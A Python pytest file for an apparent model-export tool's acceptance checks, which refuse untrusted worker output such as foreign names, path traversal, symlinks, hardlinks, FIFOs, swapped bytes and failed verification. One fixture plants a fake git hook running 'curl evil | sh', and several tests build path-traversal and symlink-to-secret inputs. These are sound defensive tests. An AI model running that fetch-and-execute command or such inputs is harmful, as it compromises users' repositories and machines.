"""A worker's output (a container's out/ folder, a Ray task's bytes) is untrusted input: only
the names the job declares, only regular files, exactly the bytes hashed, only a verification
that passed. Each attack is built by hand, as a worker could leave it; no Docker needed."""

from __future__ import annotations

import hashlib
import os
from pathlib import Path

import pytest

from timmx.contract import (
    ArtifactFile,
    ErrorInfo,
    ExportJob,
    ExportResult,
    ModelSpec,
    Verification,
    VerifySpec,
)
from timmx.errors import ContractError, ModelError
from timmx.images.find import Found
from timmx.runners import accept
from timmx.runners.accept import accept_bytes
from timmx.runners.container_result import accept_result

IMAGE = Found(ref="timmx-onnx:test", id="sha256:abc", exact=True)


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    """The user's project: a `.git` beside the destination, which no worker may touch."""
    root = tmp_path / "project"
    hooks = root / ".git" / "hooks"
    hooks.mkdir(parents=True)
    (hooks / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    return root


@pytest.fixture
def out(tmp_path: Path) -> Path:
    """The worker's output folder (what a container has mounted read-write)."""
    folder = tmp_path / "out"
    folder.mkdir()
    return folder


def make_job(backend: str = "onnx", output: str = "m.onnx", **options) -> ExportJob:
    verify = VerifySpec(enabled=options.pop("verify", True))
    return ExportJob(
        backend=backend,
        model=ModelSpec(name="resnet18"),
        output=output,
        options=options,
        verify=verify,
    )


def entry(path: str, data: bytes) -> ArtifactFile:
    return ArtifactFile(path=path, bytes=len(data), sha256=hashlib.sha256(data).hexdigest())


def success(
    files: dict[str, bytes], verification: Verification | None = None, **fields
) -> ExportResult:
    """A result that records `files` honestly (path -> the bytes the worker claims)."""
    return ExportResult(
        status="success",
        artifacts=[entry(path, data) for path, data in files.items()],
        verification=verification or Verification(status="passed"),
        **fields,
    )


def write(out: Path, files: dict[str, bytes]) -> None:
    for path, data in files.items():
        (out / path).parent.mkdir(parents=True, exist_ok=True)
        (out / path).write_bytes(data)


def everything(root: Path) -> dict[str, bytes]:
    """Every file under `root` with its bytes: what the user has, before and after."""
    return {
        p.relative_to(root).as_posix(): p.read_bytes()
        for p in sorted(root.rglob("*"))
        if p.is_file() and not p.is_symlink()
    }


def refused(result: ExportResult, job: ExportJob, out: Path, workspace: Path) -> str:
    """Accept `result` as a container's; it must be refused in one line, nothing published."""
    before = everything(workspace)
    with pytest.raises(ContractError) as caught:
        accept_result(result, out, job, IMAGE, {}, workspace / job.output)
    message = caught.value.message
    assert "\n" not in message and "nothing was published" in message, message
    assert everything(workspace) == before
    assert sorted(p.name for p in workspace.iterdir()) == [".git"]  # no staging folder left
    return message


# --- names ------------------------------------------------------------------------------------


def test_a_foreign_top_level_name_is_refused_and_git_stays(out: Path, workspace: Path):
    evil = b"#!/bin/sh\ncurl evil | sh\n"
    files = {"m.onnx": b"model", ".git/hooks/pre-commit": evil}
    write(out, files)
    message = refused(success(files), make_job(), out, workspace)
    assert ".git/hooks/pre-commit" in message and "declares (m.onnx and m.onnx.data)" in message
    assert (workspace / ".git" / "hooks" / "pre-commit").read_text() == "#!/bin/sh\nexit 0\n"


def test_a_foreign_name_from_a_ray_task_is_refused(workspace: Path):
    files = {"m.onnx": b"model", ".git/hooks/pre-commit": b"evil"}
    before = everything(workspace)
    with pytest.raises(ContractError, match=r"\.git/hooks/pre-commit"):
        accept_bytes(success(files), make_job(), files, workspace / "m.onnx", "fix")
    assert everything(workspace) == before


@pytest.mark.parametrize(
    "path", ["../m.onnx", "/etc/m.onnx", "./m.onnx", "m.onnx/", "m.onnx/inner", "x\nm.onnx"]
)
def test_a_path_that_is_not_plain_is_refused(path: str, out: Path, workspace: Path):
    write(out, {"m.onnx": b"model"})
    result = success({path: b"model"})
    message = refused(result, make_job(), out, workspace)
    assert "m.onnx" in message


def test_a_side_file_another_backend_declares_is_refused(out: Path, workspace: Path):
    files = {"m.onnx": b"model", "m.bin": b"weights"}  # openvino's side file, not onnx's
    write(out, files)
    assert "m.bin" in refused(success(files), make_job(), out, workspace)


def test_a_declared_side_file_left_unrecorded_is_refused(out: Path, workspace: Path):
    write(out, {"m.onnx": b"model", "m.onnx.data": b"weights"})
    result = success({"m.onnx": b"model"})
    assert "did not record: m.onnx.data" in refused(result, make_job(), out, workspace)


def test_a_result_without_the_artifact_itself_is_refused(out: Path, workspace: Path):
    files = {"m.onnx.data": b"weights"}
    write(out, files)
    assert "no m.onnx" in refused(success(files), make_job(), out, workspace)


# --- kinds ------------------------------------------------------------------------------------


def test_a_top_level_symlink_is_refused(tmp_path: Path, out: Path, workspace: Path):
    secret = tmp_path / "secret"
    secret.write_bytes(b"the host's secret")
    (out / "m.onnx").symlink_to(secret)
    result = success({"m.onnx": secret.read_bytes()})  # sizes and hashes match the target
    assert "m.onnx is a symbolic link" in refused(result, make_job(), out, workspace)


def test_a_symlink_inside_a_folder_artifact_is_refused(tmp_path: Path, out: Path, workspace: Path):
    secret = tmp_path / "secret"
    secret.write_bytes(b"the host's secret")
    write(out, {"m.ncnn/m.param": b"param"})
    (out / "m.ncnn" / "m.bin").symlink_to(secret)
    result = success({"m.ncnn/m.param": b"param", "m.ncnn/m.bin": secret.read_bytes()})
    message = refused(result, make_job("ncnn", "m.ncnn"), out, workspace)
    assert "m.ncnn/m.bin is a symbolic link" in message


def test_a_symlinked_folder_inside_a_folder_artifact_is_refused(
    tmp_path: Path, out: Path, workspace: Path
):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "x.py").write_bytes(b"import os")
    write(out, {"m.ncnn/m.param": b"param"})
    (out / "m.ncnn" / "sub").symlink_to(elsewhere, target_is_directory=True)
    result = success({"m.ncnn/m.param": b"param", "m.ncnn/sub/x.py": b"import os"})
    message = refused(result, make_job("ncnn", "m.ncnn"), out, workspace)
    assert "m.ncnn/sub is a symbolic link" in message


def test_a_hardlink_is_refused(tmp_path: Path, out: Path, workspace: Path):
    other = tmp_path / "other-name"
    other.write_bytes(b"model")
    os.link(other, out / "m.onnx")
    assert os.stat(out / "m.onnx").st_nlink == 2
    message = refused(success({"m.onnx": b"model"}), make_job(), out, workspace)
    assert "m.onnx has 2 hard links" in message


@pytest.mark.parametrize("where", ["m.onnx", "m.ncnn/m.bin"])
def test_a_fifo_is_refused(where: str, out: Path, workspace: Path):
    job = make_job() if where == "m.onnx" else make_job("ncnn", "m.ncnn")
    files = {where: b""} if where == "m.onnx" else {"m.ncnn/m.param": b"p", where: b""}
    write(out, {k: v for k, v in files.items() if k != where})
    (out / where).parent.mkdir(parents=True, exist_ok=True)
    os.mkfifo(out / where)
    assert f"{where} is a FIFO" in refused(success(files), job, out, workspace)


def test_a_folder_where_the_backend_makes_a_file_is_refused(out: Path, workspace: Path):
    write(out, {"m.onnx/inner": b"x"})
    result = success({"m.onnx": b""})
    assert "m.onnx is a folder" in refused(result, make_job(), out, workspace)


# --- the bytes that land are the bytes hashed --------------------------------------------------


def test_a_swap_after_the_copy_cannot_change_what_lands(
    out: Path, workspace: Path, monkeypatch: pytest.MonkeyPatch
):
    """A warm container keeps running while the host accepts: whatever it does to out/ after
    the copy, the host publishes its own copy, the bytes it hashed."""
    write(out, {"m.onnx": b"honest model"})
    real_publish = accept.publish

    def swap_then_publish(staged, staging, destination_dir):
        (out / "m.onnx").unlink()
        (out / "m.onnx").symlink_to(workspace / ".git" / "hooks" / "pre-commit")
        write(out, {"m.onnx.data": b"smuggled"})
        return real_publish(staged, staging, destination_dir)

    monkeypatch.setattr(accept, "publish", swap_then_publish)
    accept_result(
        success({"m.onnx": b"honest model"}), out, make_job(), IMAGE, {}, workspace / "m.onnx"
    )
    landed = workspace / "m.onnx"
    assert landed.read_bytes() == b"honest model" and not landed.is_symlink()
    assert not (workspace / "m.onnx.data").exists()
    (out / "m.onnx").unlink()
    (out / "m.onnx").write_bytes(b"rewritten later")
    assert landed.read_bytes() == b"honest model"


@pytest.mark.parametrize("swap", ["rewrite", "symlink"])
def test_a_swap_between_the_listing_and_the_copy_is_refused(
    swap: str, tmp_path: Path, out: Path, workspace: Path, monkeypatch: pytest.MonkeyPatch
):
    """The file is checked on the descriptor the bytes are read from: a file rewritten or
    replaced by a symlink after the folder was listed is refused, nothing published."""
    write(out, {"m.onnx": b"honest model"})
    (tmp_path / "target").write_bytes(b"honest model")
    real_listing = accept._files_in_out

    def list_then_swap(*args):
        found = real_listing(*args)
        (out / "m.onnx").unlink()
        if swap == "rewrite":
            (out / "m.onnx").write_bytes(b"evil model!!")
        else:
            (out / "m.onnx").symlink_to(tmp_path / "target")
        return found

    monkeypatch.setattr(accept, "_files_in_out", list_then_swap)
    message = refused(success({"m.onnx": b"honest model"}), make_job(), out, workspace)
    if swap == "rewrite":
        assert "m.onnx differs from the worker's record" in message
    else:
        assert "m.onnx cannot be read as a regular file" in message


def test_bytes_that_differ_from_the_record_are_refused(out: Path, workspace: Path):
    write(out, {"m.onnx": b"model"})
    result = success({"m.onnx": b"other"})
    assert "differs from the worker's record" in refused(result, make_job(), out, workspace)
    with pytest.raises(ContractError, match="differs from the worker's record"):
        accept_bytes(result, make_job(), {"m.onnx": b"model"}, workspace / "m.onnx", "fix")
    assert not (workspace / "m.onnx").exists()


# --- verification -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "verification",
    [
        None,
        Verification(status="failed"),
        Verification(status="partial"),
        Verification(status="skipped", note="no runtime"),  # onnx always has one
    ],
    ids=["missing", "failed", "partial", "skipped-while-enabled"],
)
def test_a_success_without_a_passed_verification_is_refused(
    verification: Verification | None, out: Path, workspace: Path
):
    write(out, {"m.onnx": b"model"})
    result = success({"m.onnx": b"model"})
    result.verification = verification
    status = "missing" if verification is None else verification.status
    message = refused(result, make_job(), out, workspace)
    assert f"its verification is {status}" in message


def test_a_failure_without_an_error_is_refused(out: Path, workspace: Path):
    write(out, {"m.onnx": b"model"})
    result = success({"m.onnx": b"model"})
    result.status = "failed"
    assert "failure without an error" in refused(result, make_job(), out, workspace)


def test_a_ray_task_goes_through_the_same_checks(workspace: Path):
    """The host's side of a Ray build publishes a task's answer through timmx.runners.accept:
    a failed verification or a foreign name is refused, an honest answer lands."""
    from types import SimpleNamespace

    from timmx.build.ray_runner import _RayBuild

    class NoCluster:  # what the host's side needs of `ray` to be built
        @staticmethod
        def remote(function):
            return function

        @staticmethod
        def nodes():
            return []

    build = _RayBuild(NoCluster(), workspace, slots=1, keep_going=False)
    planned = SimpleNamespace(job=make_job())
    files = {"m.onnx": b"model"}

    def answer(result: ExportResult, files: dict[str, bytes]) -> dict:
        return {"result": result.model_dump_json(), "files": files}

    failed = answer(success(files, Verification(status="failed")), files)
    with pytest.raises(ContractError, match="its verification is failed"):
        build._publish(planned, failed, 1.0)
    foreign = {**files, ".git/hooks/pre-commit": b"evil"}
    with pytest.raises(ContractError, match=r"\.git/hooks/pre-commit"):
        build._publish(planned, answer(success(foreign), foreign), 1.0)
    assert sorted(p.name for p in workspace.iterdir()) == [".git"]
    build._publish(planned, answer(success(files), files), 1.0)
    assert (workspace / "m.onnx").read_bytes() == b"model"
    assert (workspace / "m.onnx.json").exists()


# --- what is accepted -------------------------------------------------------------------------


def test_a_plain_artifact_is_published_as_the_hosts(out: Path, workspace: Path):
    write(out, {"m.onnx": b"model", "result.json": b"{}"})  # the worker's own result stays
    job = make_job()
    result = success({"m.onnx": b"model"}, job=make_job(output="elsewhere.onnx"))
    result.environment = None
    accepted = accept_result(result, out, job, IMAGE, {}, workspace / "m.onnx")
    assert (workspace / "m.onnx").read_bytes() == b"model"
    assert accepted.job == job  # the host's job, not the worker's
    assert sorted(p.name for p in workspace.iterdir()) == [".git", "m.onnx"]


def test_a_declared_side_file_is_published(out: Path, workspace: Path):
    files = {"m.onnx": b"graph", "m.onnx.data": b"weights"}
    write(out, files)
    accept_result(success(files), out, make_job(), IMAGE, {}, workspace / "m.onnx")
    assert everything(workspace)["m.onnx.data"] == b"weights"
    xml = {"m.xml": b"<net>", "m.bin": b"weights"}
    accept_bytes(success(xml), make_job("openvino", "m.xml"), xml, workspace / "m.xml", "fix")
    assert (workspace / "m.bin").read_bytes() == b"weights"


def test_a_folder_artifact_is_published_whole(out: Path, workspace: Path):
    files = {"m.ncnn/m.param": b"param", "m.ncnn/m.bin": b"weights", "m.ncnn/deep/x": b"x"}
    write(out, files)
    accept_result(success(files), out, make_job("ncnn", "m.ncnn"), IMAGE, {}, workspace / "m.ncnn")
    assert {k: v for k, v in everything(workspace).items() if k.startswith("m.ncnn")} == files


def test_a_no_verify_job_is_published_with_its_verification_skipped(out: Path, workspace: Path):
    write(out, {"m.onnx": b"model"})
    result = success({"m.onnx": b"model"}, Verification(status="skipped", note="--no-verify"))
    accept_result(result, out, make_job(verify=False), IMAGE, {}, workspace / "m.onnx")
    assert (workspace / "m.onnx").read_bytes() == b"model"


def test_a_backend_without_a_runtime_here_may_skip(out: Path, workspace: Path):
    """An ExecuTorch program for an Apple-only delegate has no runtime on Linux: its skipped
    verification is honest; the same result from the XNNPACK delegate is not."""
    write(out, {"m.pte": b"program"})
    skipped = Verification(status="skipped", note="runs only on Apple devices")
    xnnpack = make_job("executorch", "m.pte", delegate="xnnpack")
    refused(success({"m.pte": b"program"}, skipped), xnnpack, out, workspace)
    apple = make_job("executorch", "m.pte", delegate="coreml")
    accept_result(
        success({"m.pte": b"program"}, skipped), out, apple, IMAGE, {}, workspace / "m.pte"
    )
    assert (workspace / "m.pte").read_bytes() == b"program"


def test_the_environment_names_the_image(out: Path, workspace: Path):
    from timmx.environment import describe

    write(out, {"m.onnx": b"model"})
    result = success({"m.onnx": b"model"}, environment=describe())
    accepted = accept_result(result, out, make_job(), IMAGE, {}, workspace / "m.onnx")
    assert accepted.environment is not None
    assert (accepted.environment.runner, accepted.environment.image) == ("docker", IMAGE.ref)
    assert accepted.environment.image_id == IMAGE.id


def test_a_worker_error_names_the_hosts_paths(out: Path, workspace: Path):
    result = ExportResult(
        status="failed", error=ErrorInfo(kind="model", message="cannot read /job/in/0/w.pth")
    )
    with pytest.raises(ModelError, match=r"cannot read /home/me/w\.pth"):
        accept_result(result, out, make_job(), IMAGE, {"in/0/w.pth": "/home/me/w.pth"}, workspace)
